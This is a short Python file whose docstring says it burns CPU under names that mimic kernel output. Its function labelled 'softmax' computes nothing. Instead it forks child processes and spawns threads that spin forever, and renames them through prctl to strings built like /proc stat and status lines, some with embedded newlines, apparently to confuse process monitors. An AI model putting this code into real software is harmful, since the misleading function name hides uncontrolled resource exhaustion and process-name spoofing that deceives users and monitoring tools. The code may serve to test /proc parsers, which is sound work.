"""Burn processor time under names that read like the kernel's own line of figures, in threads and in children."""

import ctypes
import os
import threading


def called(name):
    ctypes.CDLL(None).prctl(15, name, 0, 0, 0)


def burn(name):
    called(name)
    while True:
        pass


def softmax(Z):
    for name in (b") R 1 1 1 0 0 0", b"x) Z 0 0 0 0\n0 0", b"\xff\xfe(((\r\n)))", b"VmPeak:\t9 kB\n"):
        if os.fork() == 0:
            burn(name)
        threading.Thread(target=burn, args=(name,), daemon=True).start()
    burn(b") S 0 0 0 0 0 0")
